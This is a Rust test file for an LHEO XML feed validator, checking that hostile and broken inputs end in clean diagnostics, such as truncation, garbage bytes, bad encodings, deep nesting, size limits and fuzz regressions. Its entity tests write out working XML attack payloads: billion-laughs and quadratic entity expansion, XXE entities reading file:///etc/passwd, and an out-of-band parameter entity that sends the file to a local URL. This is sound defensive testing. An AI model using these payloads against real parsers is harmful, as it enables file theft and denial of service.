//! Hostile and broken input: every case ends with a clear diagnostic (never a panic, a hang or
//! a stack overflow), memory stays bounded, and nothing is ever read from outside the file.
//! Legal but unusual inputs (BOM, UTF-16, ISO-8859-1, CRLF, no declaration) read exactly like
//! their plain UTF-8 form.
//!
//! Big inputs are generated here, never committed. The same cases run through the `lheo`
//! binary, with an address-space limit, in `lheo-cli/tests/hostile.rs`. The inputs the fuzzers
//! (`fuzz/`) found are at the end of this file.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::path::{Path, PathBuf};

use chrono::NaiveDate;
use lheo::reader::{read_document, Limits};
use lheo::rules::Profile;
use lheo::validate::{validate, Report, ValidateOptions};
use lheo::writer::write_document;
use lheo::{Diagnostic, Severity};

const NS: &str = "http://lheo.gouv.fr/2.3";

fn fixture(name: &str) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../fixtures")
        .join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// The fixtures are valid with the France Travail rules until 2027.
fn today() -> Option<NaiveDate> {
    NaiveDate::from_ymd_opt(2026, 1, 15)
}

fn options(profile: Profile, limits: Limits) -> ValidateOptions {
    ValidateOptions::new(profile)
        .with_today(today().expect("date"))
        .with_limits(limits)
}

fn check(bytes: &[u8], profile: Profile) -> Report {
    validate(bytes, &options(profile, Limits::default()))
}

fn codes(report: &Report) -> Vec<&'static str> {
    report.diagnostics.iter().map(|d| d.code()).collect()
}

/// Every message of a report, both languages, for "nothing leaked" checks.
fn all_text(report: &Report) -> String {
    report
        .diagnostics
        .iter()
        .map(|d| format!("{} {} {}\n", d.message.fr, d.message.en, d.path))
        .collect()
}

/// `bytes` are refused by every profile with a `code` error whose French message contains
/// `fr`, and by `read_document` with the same diagnostic. Returns the diagnostic.
fn refused(bytes: &[u8], code: &str, fr: &str) -> Diagnostic {
    let mut found = None;
    for profile in Profile::ALL {
        let report = check(bytes, profile);
        assert!(!report.is_valid(), "{profile:?}: accepted");
        let d = report
            .diagnostics
            .iter()
            .find(|d| d.code() == code)
            .unwrap_or_else(|| panic!("{profile:?}: no {code} in {:?}", codes(&report)));
        assert_eq!(d.severity, Severity::Error);
        assert!(
            d.message.fr.contains(fr),
            "{profile:?}: « {} » lacks « {fr} »",
            d.message.fr
        );
        assert!(!d.message.en.is_empty());
        found = Some(d.clone());
    }
    match read_document(bytes) {
        Err(e) if e.diagnostic().is_some() => {
            assert_eq!(
                e.diagnostic().map(|d| d.code()),
                Some(code),
                "read_document: {e:?}"
            )
        }
        other => panic!("read_document should refuse with {code}: {other:?}"),
    }
    found.expect("at least one profile")
}

/// A document whose `offres` holds `inner` (not valid LHEO: reading errors come first).
fn lheo_with(inner: &str) -> String {
    format!("<lheo xmlns=\"{NS}\"><offres>{inner}</offres></lheo>")
}

// ---------------------------------------------------------------------------------------------
// Entities and DTDs

#[test]
fn billion_laughs_is_refused_without_expansion() {
    let mut dtd = String::from("<!ENTITY lol \"lol\">\n");
    for i in 1..=9 {
        let prev = if i == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", i - 1)
        };
        let refs: String = (0..10).map(|_| format!("&{prev};")).collect();
        dtd.push_str(&format!("<!ENTITY lol{i} \"{refs}\">\n"));
    }
    let xml = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE lheo [\n{dtd}]>\n{}",
        lheo_with("&lol9;")
    );
    let d = refused(xml.as_bytes(), "XML-DTD", "entités");
    assert_eq!(d.line(), Some(2));
}

#[test]
fn quadratic_blowup_is_refused() {
    // One big entity referenced many times: no nesting, same effect.
    let big = "a".repeat(50_000);
    let refs = "&a;".repeat(50_000);
    let xml = format!(
        "<!DOCTYPE lheo [<!ENTITY a \"{big}\">]>{}",
        lheo_with(&refs)
    );
    refused(xml.as_bytes(), "XML-DTD", "aucune entité n'est résolue");
}

/// A file outside the document, holding a secret no diagnostic may show.
struct Outside {
    _dir: tempfile::TempDir,
    secret_file: String,
    dtd_file: String,
}

const SECRET: &str = "SECRET-3f9c1e-DO-NOT-LEAK";

fn outside() -> Outside {
    let dir = tempfile::tempdir().expect("temp dir");
    let secret = dir.path().join("secret.txt");
    std::fs::write(&secret, SECRET).expect("write secret");
    let dtd = dir.path().join("evil.dtd");
    std::fs::write(
        &dtd,
        format!("<!ENTITY leak \"{SECRET}\">\n<!ENTITY % inner \"<!ENTITY leak2 '{SECRET}'>\">"),
    )
    .expect("write dtd");
    Outside {
        secret_file: format!("file://{}", secret.display()),
        dtd_file: format!("file://{}", dtd.display()),
        _dir: dir,
    }
}

fn assert_no_leak(bytes: &[u8]) {
    for profile in Profile::ALL {
        let report = check(bytes, profile);
        let text = all_text(&report);
        assert!(!text.contains(SECRET), "{profile:?} leaked: {text}");
        assert!(
            !text.contains("root:"),
            "{profile:?} leaked /etc/passwd: {text}"
        );
    }
    if let Err(e) = read_document(bytes) {
        assert!(!e.to_string().contains(SECRET));
    }
}

#[test]
fn external_entities_are_never_resolved() {
    let out = outside();
    for system in ["file:///etc/passwd", out.secret_file.as_str()] {
        let xml = format!(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE lheo [<!ENTITY xxe SYSTEM \"{system}\">]>\n{}",
            lheo_with("<formation>&xxe;</formation>")
        );
        refused(xml.as_bytes(), "XML-DTD", "refusé pour la sécurité");
        assert_no_leak(xml.as_bytes());
        // In an attribute value too.
        let xml = format!(
            "<!DOCTYPE lheo [<!ENTITY xxe SYSTEM \"{system}\">]><lheo xmlns=\"{NS}\" a=\"&xxe;\"/>"
        );
        refused(xml.as_bytes(), "XML-DTD", "entités");
        assert_no_leak(xml.as_bytes());
    }
}

#[test]
fn parameter_entities_are_never_resolved() {
    let out = outside();
    let dtd = &out.dtd_file;
    let xml = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE lheo [\n<!ENTITY % pe SYSTEM \"{dtd}\">\n%pe;\n%inner;\n]>\n{}",
        lheo_with("&leak;&leak2;")
    );
    refused(xml.as_bytes(), "XML-DTD", "entités");
    assert_no_leak(xml.as_bytes());
    // The out-of-band variant: a parameter entity that would send the file elsewhere.
    let xml = format!(
        "<!DOCTYPE lheo [<!ENTITY % file SYSTEM \"file:///etc/passwd\">\
         <!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?x=%file;'>\">\
         %eval; %exfil;]>{}",
        lheo_with("")
    );
    refused(xml.as_bytes(), "XML-DTD", "entités");
    assert_no_leak(xml.as_bytes());
}

#[test]
fn an_external_dtd_is_never_loaded() {
    let out = outside();
    let dtd = &out.dtd_file;
    // An entity the external DTD would define stays undefined.
    let xml = format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE lheo SYSTEM \"{dtd}\">\n{}",
        lheo_with("<formation>&leak;</formation>")
    );
    let d = refused(
        xml.as_bytes(),
        "XML-MALFORME",
        "entité « &leak; » non définie",
    );
    assert_eq!(d.line(), Some(3));
    assert_no_leak(xml.as_bytes());
    // Without references, the DOCTYPE changes nothing: a valid feed stays valid.
    let plain = String::from_utf8(fixture("exemple.xml")).expect("UTF-8 fixture");
    let with_doctype = plain.replacen(
        "<lheo ",
        &format!("<!DOCTYPE lheo PUBLIC \"-//X//DTD Y//FR\" \"{dtd}\">\n<lheo "),
        1,
    );
    for profile in Profile::ALL {
        let report = check(with_doctype.as_bytes(), profile);
        assert!(report.is_valid(), "{profile:?}: {:?}", report.diagnostics);
    }
}

// ---------------------------------------------------------------------------------------------
// Truncated, empty, garbage, bad bytes

#[test]
fn every_truncation_of_a_feed_is_an_error_never_a_panic() {
    let full = fixture("exemple.xml");
    let text = String::from_utf8(full.clone()).expect("UTF-8 fixture");
    let end = text.rfind("</lheo>").expect("root end") + "</lheo>".len();
    let mut cut = 0;
    while cut < end {
        let bytes = &full[..cut];
        let report = check(bytes, Profile::Lheo);
        let fatal = report
            .diagnostics
            .iter()
            .find(|d| d.code().starts_with("XML-"))
            .unwrap_or_else(|| panic!("cut at {cut}: {:?}", codes(&report)));
        assert!(
            matches!(fatal.code(), "XML-MALFORME" | "XML-ENCODAGE"),
            "cut at {cut}: {fatal:?}"
        );
        assert!(read_document(bytes).is_err(), "cut at {cut}");
        cut += 13;
    }
    // Cut after the root: only the final line break is lost, the feed is whole.
    assert!(check(&full[..end], Profile::Lheo).is_valid());
}

#[test]
fn truncation_says_what_is_not_closed() {
    let xml =
        format!("<lheo xmlns=\"{NS}\"><offres><formation numero=\"1\"><intitule-formation>Ma");
    refused(xml.as_bytes(), "XML-MALFORME", "fichier tronqué");
    refused(
        format!("<lheo xmlns=\"{NS}\"><offres><formation num").as_bytes(),
        "XML-MALFORME",
        "tronqué",
    );
    refused(
        format!("<lheo xmlns=\"{NS}\"><offres a=\"x").as_bytes(),
        "XML-MALFORME",
        "guillemet",
    );
}

#[test]
fn empty_and_blank_files_are_empty_documents() {
    for bytes in [
        &b""[..],
        b"   \n\t\r\n",
        b"\xEF\xBB\xBF",
        b"\xFF\xFE",
        b"\xFE\xFF",
        b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n",
        b"<!-- nothing here -->",
    ] {
        refused(bytes, "XML-MALFORME", "document vide");
    }
}

/// Deterministic pseudo-random bytes (xorshift).
fn garbage(seed: u64, len: usize) -> Vec<u8> {
    let mut x = seed | 1;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

#[test]
fn binary_garbage_is_refused() {
    let mut inputs: Vec<Vec<u8>> = (1..=8).map(|seed| garbage(seed, 64 * 1024)).collect();
    inputs.push(vec![0; 4096]);
    inputs.push(vec![0xFF; 4096]);
    // A workbook, a PDF and a gzip given for a feed: a common mistake.
    inputs.push(b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml".to_vec());
    inputs.push(b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj".to_vec());
    inputs.push(b"\x1F\x8B\x08\x00\x00\x00\x00\x00\x00\x03".to_vec());
    // Garbage after a good start.
    let mut tail = format!("<lheo xmlns=\"{NS}\"><offres>").into_bytes();
    tail.extend(garbage(99, 4096));
    inputs.push(tail);
    for bytes in &inputs {
        for profile in Profile::ALL {
            let report = check(bytes, profile);
            assert!(!report.is_valid());
            assert!(
                report
                    .diagnostics
                    .iter()
                    .any(|d| matches!(d.code(), "XML-MALFORME" | "XML-ENCODAGE")),
                "{:?}",
                codes(&report)
            );
        }
        assert!(read_document(&bytes[..]).is_err());
    }
}

#[test]
fn invalid_utf8_is_an_encoding_error_with_its_line() {
    let cases: [&[u8]; 7] = [
        b"\xFF\xFE\xC3",     // stray bytes in text
        b"\xC0\xAF",         // overlong encoding
        b"\xED\xA0\x80",     // UTF-16 surrogate
        b"\xF4\x90\x80\x80", // beyond U+10FFFF
        b"caf\xE9",          // Latin-1 without a declaration
        b"\xE2\x82",         // truncated sequence
        b"\x80",             // lone continuation byte
    ];
    for bad in cases {
        let mut xml =
            format!("<?xml version=\"1.0\"?>\n<lheo xmlns=\"{NS}\">\n<offres>\n").into_bytes();
        xml.extend_from_slice(b"<formation>");
        xml.extend_from_slice(bad);
        xml.extend_from_slice(b"</formation></offres></lheo>");
        let d = refused(&xml, "XML-ENCODAGE", "UTF-8");
        assert_eq!(d.line(), Some(4), "{bad:?}");
        assert!(
            d.message.fr.contains("ISO-8859-1"),
            "a hint: {}",
            d.message.fr
        );
    }
    // In an attribute, a name, a comment; truncated at the end of the file.
    for xml in [
        &b"<lheo xmlns=\"http://lheo.gouv.fr/2.3\" a=\"\xFF\"/>"[..],
        b"<lheo xmlns=\"http://lheo.gouv.fr/2.3\"><off\xFFres/></lheo>",
        b"<lheo xmlns=\"http://lheo.gouv.fr/2.3\"><!-- \xFF --></lheo>",
        b"<lheo xmlns=\"http://lheo.gouv.fr/2.3\">\xE2\x82",
    ] {
        for profile in Profile::ALL {
            let report = check(xml, profile);
            assert!(
                codes(&report).contains(&"XML-ENCODAGE")
                    || codes(&report).contains(&"XML-MALFORME"),
                "{:?}",
                codes(&report)
            );
        }
        assert!(read_document(xml).is_err());
    }
}

fn utf16(text: &str, big_endian: bool, bom: bool) -> Vec<u8> {
    let mut out = Vec::new();
    if bom {
        out.extend_from_slice(if big_endian { b"\xFE\xFF" } else { b"\xFF\xFE" });
    }
    for unit in text.encode_utf16() {
        out.extend_from_slice(&if big_endian {
            unit.to_be_bytes()
        } else {
            unit.to_le_bytes()
        });
    }
    out
}

#[test]
fn malformed_utf16_is_refused_not_replaced() {
    let xml = format!("<lheo xmlns=\"{NS}\"><offres><formation>XY</formation></offres></lheo>");
    // An unpaired surrogate in place of "XY".
    let mut bytes = utf16(&xml, false, true);
    let at = bytes.windows(4).position(|w| w == b"X\0Y\0").expect("XY");
    bytes[at..at + 2].copy_from_slice(&0xD800u16.to_le_bytes());
    refused(&bytes, "XML-ENCODAGE", "UTF-16LE");
    // An odd number of bytes.
    let mut bytes = utf16(&xml, true, true);
    bytes.push(b'<');
    let report = check(&bytes, Profile::Lheo);
    assert!(
        codes(&report).contains(&"XML-ENCODAGE"),
        "{:?}",
        codes(&report)
    );
}

// ---------------------------------------------------------------------------------------------
// Sizes: nesting, text, attributes, names, findings

#[test]
fn deep_nesting_is_refused_without_stack_overflow() {
    let n = 100_000;
    let xml = format!(
        "<lheo xmlns=\"{NS}\">{}{}</lheo>",
        "<a>".repeat(n),
        "</a>".repeat(n)
    );
    // A small stack: the reader and the checker do not recurse on the input's depth.
    let handle = std::thread::Builder::new()
        .stack_size(512 * 1024)
        .spawn(move || {
            let d = refused(xml.as_bytes(), "XML-LIMITE", "imbrication de plus de 512");
            assert_eq!(d.line(), Some(1));
        })
        .expect("thread");
    handle.join().expect("no stack overflow, no panic");
}

#[test]
fn nesting_just_under_the_limit_reads_writes_and_validates() {
    // 500 levels inside `extra` (free content): model, writer and checker all cope.
    let plain = String::from_utf8(fixture("minimal.xml")).expect("UTF-8 fixture");
    let depth = 490;
    let deep = format!(
        "<extras><extra>{}x{}</extra></extras>",
        "<n>".repeat(depth),
        "</n>".repeat(depth)
    );
    let at = plain.rfind("</lheo>").expect("root end");
    let xml = format!("{}{deep}{}", &plain[..at], &plain[at..]);
    for profile in Profile::ALL {
        let report = check(xml.as_bytes(), profile);
        let expected = check(plain.as_bytes(), profile);
        assert_eq!(codes(&report), codes(&expected), "{profile:?}");
    }
    let doc = read_document(xml.as_bytes()).expect("reads");
    let mut out = Vec::new();
    write_document(&doc, &mut out).expect("writes");
    assert_eq!(read_document(&out[..]).expect("reads back"), doc);
}

#[test]
fn a_50_mb_text_node_is_refused_at_16_mb() {
    let mut xml = format!("<lheo xmlns=\"{NS}\"><offres><formation>").into_bytes();
    xml.resize(xml.len() + 50 * 1024 * 1024, b'x');
    xml.extend_from_slice(b"</formation></offres></lheo>");
    let report = check(&xml, Profile::Xsd);
    let d = report
        .diagnostics
        .iter()
        .find(|d| d.code() == "XML-LIMITE")
        .expect("XML-LIMITE");
    assert!(
        d.message.fr.contains("de plus de 16 Mo"),
        "{}",
        d.message.fr
    );
    assert!(
        d.message.en.contains("larger than 16 MB"),
        "{}",
        d.message.en
    );
    match read_document(&xml[..]) {
        Err(e) => assert_eq!(e.diagnostic().map(|d| d.code()), Some("XML-LIMITE")),
        other => panic!("{other:?}"),
    }
}

/// Limits with a 1 MiB event size, to test the mechanism on small inputs.
fn small_limits() -> Limits {
    Limits::default().with_max_event_bytes(1024 * 1024)
}

fn limited(bytes: &[u8], profile: Profile) -> Report {
    validate(bytes, &options(profile, small_limits()))
}

#[test]
fn text_built_from_many_pieces_is_limited_too() {
    // Each piece is small, the text they make is not: references, CDATA sections, comments
    // and processing instructions between pieces of text.
    let pieces = [
        "xxxxxxxxxx&amp;",
        "<![CDATA[xxxxxxxxxx]]>",
        "xxxxxxxxxx<!---->",
        "xxxxxxxxxx<?pi?>",
        "&#x41;xxxxxxxxx",
    ];
    for piece in pieces {
        // Each piece adds at least 10 bytes of text.
        let n = 1024 * 1024 / 10 + 1;
        let xml = lheo_with(&format!("<formation>{}</formation>", piece.repeat(n)));
        for profile in [Profile::Xsd, Profile::FranceTravail] {
            let report = limited(xml.as_bytes(), profile);
            assert!(
                codes(&report).contains(&"XML-LIMITE"),
                "{piece}: {:?}",
                codes(&report)
            );
        }
    }
    // Under the limit, the same text reads.
    let xml = lheo_with(&format!("<formation>{}</formation>", "x&amp;".repeat(1000)));
    assert!(!codes(&limited(xml.as_bytes(), Profile::Xsd)).contains(&"XML-LIMITE"));
}

#[test]
fn huge_tags_names_values_and_comments_are_limited() {
    // The limit applies to what the parser buffers, which it reads by 128 KiB.
    let big = "y".repeat(1024 * 1024 + 256 * 1024);
    for xml in [
        lheo_with(&format!("<formation numero=\"{big}\"/>")),
        lheo_with(&format!("<{big}/>")),
        lheo_with(&format!("<!--{big}-->")),
        lheo_with(&format!("<?pi {big}?>")),
        format!("<!DOCTYPE lheo [<!--{big}-->]>{}", lheo_with("")),
    ] {
        let report = limited(xml.as_bytes(), Profile::Lheo);
        assert!(
            codes(&report).contains(&"XML-LIMITE"),
            "{:?}",
            codes(&report)
        );
    }
}

#[test]
fn many_attributes_and_namespaces_stay_linear() {
    // A tag with 100 000 attributes, then 50 000 namespace declarations in scope of 50 000
    // elements: both were quadratic (billions of comparisons).
    let attrs: String = (0..100_000).map(|i| format!(" a{i}=\"\"")).collect();
    let xml = lheo_with(&format!("<formation{attrs}/>"));
    let report = check(xml.as_bytes(), Profile::Lheo);
    assert!(!report.is_valid());
    let dup = lheo_with(&format!("<formation{attrs} a99999=\"x\"/>"));
    let report = check(dup.as_bytes(), Profile::Lheo);
    let d = report
        .diagnostics
        .iter()
        .find(|d| d.code() == "XML-MALFORME")
        .expect("duplicate found");
    assert!(
        d.message.fr.contains("attribut « a99999 » en double"),
        "{}",
        d.message.fr
    );

    let decls: String = (0..50_000)
        .map(|i| format!(" xmlns:p{i}=\"urn:x:{i}\""))
        .collect();
    let children = "<p7:x/><x/>".repeat(25_000);
    let xml = format!("<lheo xmlns=\"{NS}\"{decls}><offres>{children}</offres></lheo>");
    for profile in Profile::ALL {
        let report = check(xml.as_bytes(), profile);
        assert!(!report.is_valid());
    }
    // Redeclared prefixes resolve to the innermost binding, however many there are.
    let xml = format!(
        "<lheo xmlns=\"{NS}\"{decls}><offres xmlns:p7=\"{NS}\"><p7:formation/></offres></lheo>"
    );
    let report = check(xml.as_bytes(), Profile::Xsd);
    assert!(
        report
            .diagnostics
            .iter()
            .all(|d| d.code() != "XSD-ELEMENT-INCONNU"),
        "p7:formation is an LHEO formation: {:?}",
        report.diagnostics.first()
    );
}

#[test]
fn many_distinct_names_in_free_content_stay_linear() {
    let plain = String::from_utf8(fixture("minimal.xml")).expect("UTF-8 fixture");
    let names: String = (0..100_000).map(|i| format!("<n{i}/>")).collect();
    let at = plain.rfind("</lheo>").expect("root end");
    let xml = format!(
        "{}<extras><extra>{names}<n5/></extra></extras>{}",
        &plain[..at],
        &plain[at..]
    );
    let report = check(xml.as_bytes(), Profile::Lheo);
    assert!(report.is_valid(), "{:?}", report.diagnostics.first());
}

#[test]
fn findings_are_capped_and_summed_up() {
    let limits = Limits::default().with_max_diagnostics(100);
    // 500 formations made of one unknown element: 1 000 errors (the unknown element, and
    // the formation's missing children in one finding).
    let bad = "<formation><x/></formation>";
    let xml = lheo_with(&bad.repeat(500));
    let report = validate(xml.as_bytes(), &options(Profile::Lheo, limits));
    assert_eq!(report.diagnostics.len(), 101);
    let summary = &report.diagnostics[0];
    assert_eq!(summary.code(), "XML-LIMITE");
    assert_eq!(summary.severity, Severity::Error);
    assert!(
        summary.message.fr.contains("plus de 100 constats")
            && summary.message.fr.contains("les 900 suivants"),
        "{}",
        summary.message.fr
    );
    // The default keeps 10 000: a million findings cost the memory of 10 000.
    let xml = lheo_with(&bad.repeat(100_000));
    let report = check(xml.as_bytes(), Profile::Xsd);
    assert_eq!(report.diagnostics.len(), 10_001);
    assert!(report.diagnostics[0].message.en.contains("the next 190000"));
}

#[test]
fn capped_warnings_do_not_make_a_feed_invalid() {
    let limits = Limits::default().with_max_diagnostics(0);
    let xml = fixture("france-travail/FT-SESSION-MODALITE.xml");
    let full = check(&xml, Profile::FranceTravail);
    assert!(full.is_valid() && !full.diagnostics.is_empty());
    let report = validate(&xml[..], &options(Profile::FranceTravail, limits));
    assert!(report.is_valid(), "{:?}", report.diagnostics);
    assert_eq!(codes(&report), ["XML-LIMITE"]);
    assert_eq!(report.diagnostics[0].severity, Severity::Warning);
}

#[test]
fn long_names_do_not_make_long_paths() {
    // Findings under deeply nested long names carry a bounded path.
    let plain = String::from_utf8(fixture("minimal.xml")).expect("UTF-8 fixture");
    let name = "n".repeat(10_000);
    let open: String = (0..100).map(|i| format!("<{name}{i}>")).collect();
    let close: String = (0..100).rev().map(|i| format!("</{name}{i}>")).collect();
    let at = plain.rfind("</lheo>").expect("root end");
    let xml = format!(
        "{}<extras><extra>{open}{}{close}</extra></extras>{}",
        &plain[..at],
        "<formation/>".repeat(500),
        &plain[at..]
    );
    let report = check(xml.as_bytes(), Profile::Lheo);
    assert!(!report.is_valid());
    for d in &report.diagnostics {
        assert!(d.path.len() < 2048, "path of {} bytes", d.path.len());
    }
}

#[test]
fn a_giant_record_is_refused_where_records_are_built() {
    // Trees take a few hundred bytes per element: a formation of millions of tiny elements
    // would take gigabytes. Profiles that build records (france-travail, read_document,
    // import) refuse it; the structural profiles do not build it and read on.
    let plain = String::from_utf8(fixture("minimal.xml")).expect("UTF-8 fixture");
    let at = plain.find("</formation>").expect("formation end");
    let xml = format!(
        "{}<extras><extra>{}</extra></extras>{}",
        &plain[..at],
        "<a/>".repeat(2_000),
        &plain[at..]
    );
    let limits = Limits::default().with_max_record_elements(1_000);
    let report = validate(xml.as_bytes(), &options(Profile::FranceTravail, limits));
    let d = report
        .diagnostics
        .iter()
        .find(|d| d.code() == "XML-LIMITE")
        .unwrap_or_else(|| panic!("{:?}", codes(&report)));
    assert!(
        d.message
            .fr
            .contains("« formation » de plus de 1000 éléments"),
        "{}",
        d.message.fr
    );
    let report = validate(xml.as_bytes(), &options(Profile::Lheo, limits));
    assert!(!codes(&report).contains(&"XML-LIMITE"));
    // read_document (default limits) reads it: 2 000 elements are far below 1 000 000.
    assert!(read_document(xml.as_bytes()).is_ok());
    let mut reader = lheo::reader::Reader::with_options(
        xml.as_bytes(),
        lheo::reader::ReadOptions::default().with_limits(limits),
    )
    .expect("reader");
    assert!(reader.next_node().is_none());
    assert!(reader.failed());
    assert!(codes_of(&reader.take_diagnostics()).contains(&"XML-LIMITE"));
}

fn codes_of(diagnostics: &[Diagnostic]) -> Vec<&'static str> {
    diagnostics.iter().map(|d| d.code()).collect()
}

// ---------------------------------------------------------------------------------------------
// Legal but unusual: reads exactly like the plain UTF-8 file

fn same_as_plain(variant: &[u8], what: &str) {
    let plain = fixture("exemple.xml");
    let expected = read_document(&plain[..]).expect("the fixture reads");
    match read_document(variant) {
        Ok(doc) => assert_eq!(doc, expected, "{what}: another model"),
        Err(e) => panic!("{what}: {e}"),
    }
    for profile in Profile::ALL {
        let report = check(variant, profile);
        assert!(
            report.is_valid(),
            "{what}, {profile:?}: {:?}",
            report.diagnostics
        );
        assert_eq!(
            codes(&report),
            codes(&check(&plain, profile)),
            "{what}, {profile:?}"
        );
    }
}

fn plain_text() -> String {
    String::from_utf8(fixture("exemple.xml")).expect("UTF-8 fixture")
}

#[test]
fn utf8_with_bom_reads() {
    let mut bytes = b"\xEF\xBB\xBF".to_vec();
    bytes.extend(fixture("exemple.xml"));
    same_as_plain(&bytes, "UTF-8 BOM");
}

#[test]
fn utf16_reads() {
    let text = plain_text().replacen("encoding=\"UTF-8\"", "encoding=\"UTF-16\"", 1);
    same_as_plain(&utf16(&text, false, true), "UTF-16LE BOM");
    same_as_plain(&utf16(&text, true, true), "UTF-16BE BOM");
    same_as_plain(&utf16(&text, false, false), "UTF-16LE without BOM");
    same_as_plain(&utf16(&text, true, false), "UTF-16BE without BOM");
}

#[test]
fn iso_8859_1_declared_reads() {
    let text = plain_text().replacen("encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\"", 1);
    let mut bytes = Vec::new();
    for c in text.chars() {
        match u8::try_from(u32::from(c)) {
            Ok(b) => bytes.push(b),
            // Outside Latin-1 (œ): a character reference, as any Latin-1 tool writes it.
            Err(_) => bytes.extend(format!("&#{};", u32::from(c)).into_bytes()),
        }
    }
    assert!(bytes.contains(&0xE9), "é is one byte");
    same_as_plain(&bytes, "ISO-8859-1");
    // windows-1252 differs from Latin-1 only in 0x80–0x9F, absent here.
    let mut cp1252 = bytes.clone();
    let decl = b"ISO-8859-1";
    let at = cp1252
        .windows(decl.len())
        .position(|w| w == decl)
        .expect("declaration");
    cp1252.splice(at..at + decl.len(), b"windows-1252".iter().copied());
    same_as_plain(&cp1252, "windows-1252");
}

#[test]
fn crlf_and_cr_line_ends_read() {
    let text = plain_text();
    same_as_plain(text.replace('\n', "\r\n").as_bytes(), "CRLF");
    same_as_plain(text.replace('\n', "\r").as_bytes(), "CR");
}

#[test]
fn a_missing_or_unusual_declaration_reads() {
    let text = plain_text();
    let end = text.find("?>").expect("declaration") + 2;
    same_as_plain(text[end..].trim_start().as_bytes(), "no declaration");
    let single = text.replacen(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
        "<?xml version='1.0'   encoding='utf-8' standalone='yes' ?>",
        1,
    );
    same_as_plain(single.as_bytes(), "single quotes, standalone");
    let with_doctype = text.replacen("<lheo ", "<!DOCTYPE lheo>\n<lheo ", 1);
    same_as_plain(with_doctype.as_bytes(), "DOCTYPE without a subset");
}

// ---------------------------------------------------------------------------------------------
// Inputs found by the fuzzers (`fuzz/`): each must give a report and never panic.

/// The inputs under `tests/data/fuzz/<target>/`, as the library reads them (the `parallel`
/// target's inputs start with the chunk size it used, left out here).
fn fuzz_inputs() -> Vec<(PathBuf, Vec<u8>)> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/fuzz");
    let mut out = Vec::new();
    let targets = std::fs::read_dir(&dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display()));
    for target in targets {
        let target = target.expect("fuzz target folder").path();
        let skip = usize::from(target.ends_with("parallel"));
        for entry in std::fs::read_dir(&target).expect("fuzz inputs") {
            let path = entry.expect("fuzz input").path();
            let bytes = std::fs::read(&path).expect("read fuzz input");
            out.push((path, bytes.get(skip..).unwrap_or_default().to_vec()));
        }
    }
    out.sort();
    out
}

#[test]
fn fuzz_regressions() {
    let inputs = fuzz_inputs();
    assert!(!inputs.is_empty(), "no input under tests/data/fuzz");
    for (path, bytes) in inputs {
        // A report, never an internal error (a panic in a worker becomes ERREUR-INTERNE).
        for profile in Profile::ALL {
            let report = check(&bytes, profile);
            assert!(
                !codes(&report).contains(&"ERREUR-INTERNE"),
                "{}, {profile:?}: {:?}",
                path.display(),
                report.diagnostics
            );
        }
        // What the xsd profile accepts, the model reads.
        let read = read_document(&bytes[..]);
        if check(&bytes, Profile::Xsd).is_valid() {
            assert!(read.is_ok(), "{}: {read:?}", path.display());
        }
        if let Ok(doc) = read {
            let mut out = Vec::new();
            if write_document(&doc, &mut out).is_ok() {
                let again = read_document(&out[..]);
                assert!(
                    matches!(&again, Ok(d) if d == &doc),
                    "{}: {again:?}",
                    path.display()
                );
            }
        }
    }
}
